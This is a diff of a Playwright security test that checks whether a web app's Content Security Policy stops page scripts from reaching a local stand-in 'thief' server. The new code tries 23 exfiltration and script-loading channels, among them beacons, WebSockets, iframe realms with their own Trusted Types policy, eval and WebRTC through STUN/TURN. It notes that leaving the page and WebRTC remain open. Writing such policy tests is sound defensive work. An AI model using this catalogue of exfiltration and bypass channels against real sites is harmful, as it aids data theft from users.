@@ -1,5 +1,8 @@
+import { createHash } from 'node:crypto'
+import { createSocket } from 'node:dgram'
+import { once } from 'node:events'
 import { createServer } from 'node:http'
-import type { AddressInfo } from 'node:net'
+import { type AddressInfo, createServer as createTcpServer } from 'node:net'
 import type { Frame, Page } from '@playwright/test'
 import { goTo } from '../actions/go-to'
 import { findNoted, hookBuiltIns } from '../browser/hook-built-ins'
@@ -138,70 +141,176 @@ test('T6 a token worker that a remote starts itself gives it no token, and calls
   expect([...tokens].filter((token) => told.includes(token))).toEqual([])
 })
 
-test('T6 a remote sends nothing out of the page but by leaving it', async ({ page, signIn, watch }) => {
+/** The scripts that the other server offers, and the one that a remote writes itself: each says that it has run. */
+const ranMark = 'sarvRan'
+const foreignScript = `(globalThis.${ranMark} ??= []).push('foreign')`
+
+/** A server of nobody that this app knows: it writes down what reaches it by HTTP, UDP and TCP. */
+async function openThief() {
+  const arrived: string[] = []
+  const server = createServer(({ url = '' }, response) => {
+    arrived.push(url)
+    response.writeHead(200, { 'Access-Control-Allow-Origin': '*', 'Content-Type': 'text/javascript' })
+    response.end(url.includes('script') ? foreignScript : '')
+  })
+  const udp = createSocket('udp4', () => arrived.push('udp'))
+  const tcp = createTcpServer((socket) => {
+    arrived.push('tcp')
+    socket.destroy()
+  })
+  const listening = [server.listen(0, '127.0.0.1'), tcp.listen(0, '127.0.0.1'), udp.bind(0, '127.0.0.1')]
+  await Promise.all(listening.map((one) => once(one, 'listening')))
+  return {
+    arrived,
+    origin: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
+    stun: `stun:127.0.0.1:${udp.address().port}`,
+    turn: `turn:127.0.0.1:${(tcp.address() as AddressInfo).port}?transport=tcp`,
+    async close() {
+      server.closeAllConnections()
+      await Promise.all([server, tcp, udp].map((one) => new Promise<void>((resolve) => one.close(() => resolve()))))
+    },
+  }
+}
+
+/** Everything that a script of the page tries at once to reach the other server. @returns what came of each attempt */
+async function tryExits({ thiefs, stun, turn, integrity }: Record<'thiefs' | 'stun' | 'turn' | 'integrity', string>) {
+  const settled = (element: HTMLElement, parent: ParentNode = document.body) =>
+    new Promise<string>((resolve) => {
+      element.onload = () => resolve('passed')
+      element.onerror = () => resolve('blocked')
+      parent.append(element)
+    })
+  const loaded = (element: HTMLElement, address: string) => {
+    Reflect.set(element, 'src' in element ? 'src' : 'href', address)
+    return settled(element)
+  }
+  const opened = (source: EventTarget) =>
+    new Promise((resolve, reject) => {
+      source.addEventListener('open', resolve)
+      source.addEventListener('error', () => reject(new Error('blocked')))
+    })
+  const link = (own: Partial<HTMLLinkElement>) => Object.assign(document.createElement('link'), own)
+  /** A realm of its own, in which the name of the page's policy is free. */
+  const realm = () => {
+    const frame = document.body.appendChild(document.createElement('iframe'))
+    const { contentDocument, contentWindow } = frame
+    if (!contentDocument || !contentWindow) throw new TypeError('An iframe has no frame')
+    const factory = Reflect.get(contentWindow, 'trustedTypes')
+    const same = (text: string) => text
+    const policy = factory?.createPolicy('sarv', { createScriptURL: same, createScript: same })
+    return {
+      frame,
+      contentDocument,
+      contentWindow,
+      trusted: (kind: string, text: string) => policy?.[kind](text) ?? text,
+    }
+  }
+  const frameScript = (own: (trusted: (kind: string, text: string) => unknown) => object) => {
+    const { contentDocument, trusted } = realm()
+    const script = Object.assign(contentDocument.createElement('script'), own(trusted))
+    return settled(script, contentDocument.body)
+  }
+  const connected = async (urls: string) => {
+    const connection = new RTCPeerConnection({
+      iceServers: [{ urls, username: 'a', credential: 'b' }],
+      iceTransportPolicy: urls.startsWith('turn') ? 'relay' : 'all',
+    })
+    connection.createDataChannel('words')
+    const complete = new Promise((resolve) => {
+      connection.onicegatheringstatechange = () => connection.iceGatheringState === 'complete' && resolve('')
+    })
+    await connection.setLocalDescription(await connection.createOffer())
+    await complete
+    connection.close()
+    return 'see what arrived'
+  }
+  const hash = { crossOrigin: 'anonymous', integrity }
+  const attempts: Record<string, () => unknown> = {
+    fetch: () => fetch(`${thiefs}/fetch`),
+    beacon: () => {
+      navigator.sendBeacon(`${thiefs}/beacon`, 'x')
+      throw new Error('see what arrived')
+    },
+    socket: () => opened(new WebSocket(`${thiefs.replace('http', 'ws')}/socket`)),
+    events: () => opened(new EventSource(`${thiefs}/events`)),
+    picture: () => loaded(document.createElement('img'), `${thiefs}/picture`),
+    media: () => loaded(document.createElement('video'), `${thiefs}/media`),
+    style: () => loaded(link({ rel: 'stylesheet' }), `${thiefs}/style`),
+    script: () => loaded(document.createElement('script'), `${thiefs}/script`),
+    import: () => import(/* @vite-ignore */ `${thiefs}/script-import`),
+    worker: () => opened(new Worker(`${thiefs}/worker`)),
+    form: () => {
+      const form = Object.assign(document.createElement('form'), { action: `${thiefs}/form`, method: 'POST' })
+      document.body.append(form)
+      form.submit()
+      throw new Error('see what arrived')
+    },
+    modulepreload: () => loaded(link({ rel: 'modulepreload', ...hash }), `${thiefs}/script-module`),
+    'import of it': () => import(/* @vite-ignore */ `${thiefs}/script-module`),
+    preload: () => loaded(link({ rel: 'preload', as: 'script', ...hash }), `${thiefs}/script-preload`),
+    'script in a frame': () =>
+      frameScript((trusted) => ({ ...hash, src: trusted('createScriptURL', `${thiefs}/script-frame`) })),
+    'inline script in a frame': async () => {
+      const text = `(parent.sarvRan ??= []).push('inline')`
+      await Promise.race([
+        frameScript((trusted) => ({ textContent: trusted('createScript', text) })),
+        new Promise((resolve) => setTimeout(resolve, 500)),
+      ])
+      return Reflect.get(window, 'sarvRan')?.includes('inline') ? 'passed' : 'blocked'
+    },
+    'code from text in a frame': () => {
+      const { contentWindow, trusted } = realm()
+      return Reflect.get(contentWindow, 'eval')(trusted('createScript', `(parent.sarvRan ??= []).push('eval')`))
+    },
+    'fetch of a frame': () => realm().contentWindow.fetch(`${thiefs}/frame-fetch`),
+    'page in a frame': () => {
+      realm().frame.src = `${thiefs}/frame-page`
+      throw new Error('see what arrived')
+    },
+    'own page in a frame': () => {
+      const text = `<script>(parent.sarvRan ??= []).push('page')</script>`
+      realm().frame.src = URL.createObjectURL(new Blob([text], { type: 'text/html' }))
+      throw new Error('see what has run')
+    },
+    'prefetch of a page': () => {
+      document.head.append(link({ rel: 'prefetch', href: `${thiefs}/prefetch` }))
+      throw new Error('see what arrived')
+    },
+    'WebRTC by UDP': () => connected(stun),
+    'WebRTC by TCP': () => connected(turn),
+  }
+  const outcomes: Record<string, string> = {}
+  for (const [name, attempt] of Object.entries(attempts))
+    outcomes[name] = await Promise.resolve()
+      .then(attempt)
+      .then(String, () => 'blocked')
+  return { outcomes, ran: Reflect.get(window, 'sarvRan') ?? [] }
+}
+
+test('T6 a remote sends nothing out of the page but by leaving it or by WebRTC, and runs no script but the catalogue’s', async ({
+  page,
+  browserName,
+  signIn,
+  watch,
+}) => {
   watch.expectComplaints(
     /policy: |report: |Content Security Policy|TrustedScript|Trusted|ERR_BLOCKED|Failed to|violat/i,
   )
-  const arrived: string[] = []
-  const thief = createServer(({ url = '' }, response) => {
-    arrived.push(url)
-    response.writeHead(200, { 'Access-Control-Allow-Origin': '*' }).end()
-  })
-  await new Promise<void>((resolve) => thief.listen(0, '127.0.0.1', resolve))
-  const origin = `http://127.0.0.1:${(thief.address() as AddressInfo).port}`
+  const thief = await openThief()
   await signIn('investor')
   await expect(home(page)).toBeVisible()
-  const outcomes = await page.evaluate(async (thiefs) => {
-    const loaded = (element: HTMLElement, address: string) =>
-      new Promise<string>((resolve) => {
-        element.onload = () => resolve('loaded')
-        element.onerror = () => resolve('blocked')
-        Reflect.set(element, 'src' in element ? 'src' : 'href', address)
-        document.body.append(element)
-      })
-    const attempts: Record<string, () => Promise<unknown>> = {
-      fetch: () => fetch(`${thiefs}/fetch`),
-      beacon: async () => navigator.sendBeacon(`${thiefs}/beacon`, 'x'),
-      socket: () =>
-        new Promise((resolve, reject) => {
-          const socket = new WebSocket(`${thiefs.replace('http', 'ws')}/socket`)
-          socket.onopen = resolve
-          socket.onerror = () => reject(new Error('blocked'))
-        }),
-      events: () =>
-        new Promise((resolve, reject) => {
-          const source = new EventSource(`${thiefs}/events`)
-          source.onopen = resolve
-          source.onerror = () => reject(new Error('blocked'))
-        }),
-      picture: () => loaded(document.createElement('img'), `${thiefs}/picture`),
-      media: () => loaded(document.createElement('video'), `${thiefs}/media`),
-      style: () => loaded(Object.assign(document.createElement('link'), { rel: 'stylesheet' }), `${thiefs}/style`),
-      script: () => loaded(document.createElement('script'), `${thiefs}/script`),
-      import: () => import(/* @vite-ignore */ `${thiefs}/import`),
-      worker: async () => new Worker(`${thiefs}/worker`),
-      form: async () => {
-        const form = Object.assign(document.createElement('form'), { action: `${thiefs}/form`, method: 'POST' })
-        document.body.append(form)
-        form.submit()
-      },
-    }
-    const outcomes: Record<string, string> = {}
-    for (const [name, attempt] of Object.entries(attempts))
-      outcomes[name] = await attempt().then(
-        (result) => String(result),
-        () => 'blocked',
-      )
-    return outcomes
-  }, origin)
-  expect(Object.keys(outcomes)).toHaveLength(11)
-  expect([...new Set(Object.values(outcomes))].filter((outcome) => outcome === 'loaded')).toEqual([])
-  // The one documented way: no policy of a page stops it from being left.
-  await page.evaluate((address) => location.assign(address), `${origin}/left`)
-  await expect.poll(() => arrived).toContain('/left')
-  expect(arrived.filter((url) => url !== '/left' && url !== '/favicon.ico')).toEqual([])
-  await new Promise((resolve) => {
-    thief.close(resolve)
-    thief.closeAllConnections()
-  })
+  const integrity = `sha256-${createHash('sha256').update(foreignScript).digest('base64')}`
+  const { origin: thiefs, stun, turn } = thief
+  const { outcomes, ran } = await page.evaluate(tryExits, { thiefs, stun, turn, integrity })
+  expect(Object.keys(outcomes)).toHaveLength(23)
+  const passed = Object.entries(outcomes).filter(([, outcome]) => !['blocked', 'see what arrived'].includes(outcome))
+  expect(passed).toEqual([])
+  expect(ran).toEqual([])
+  // The two documented ways: no policy of a page stops it from being left, and none that browsers know stops WebRTC.
+  await page.evaluate((address) => location.assign(address), `${thiefs}/left`)
+  await expect.poll(() => thief.arrived).toContain('/left')
+  const others = new Set(thief.arrived.filter((url) => url !== '/left' && url !== '/favicon.ico'))
+  // Firefox asks no server on its own machine, and WebKitGTK has no WebRTC.
+  expect([...others].sort()).toEqual(browserName === 'chromium' ? ['tcp', 'udp'] : [])
+  await thief.close()
 })
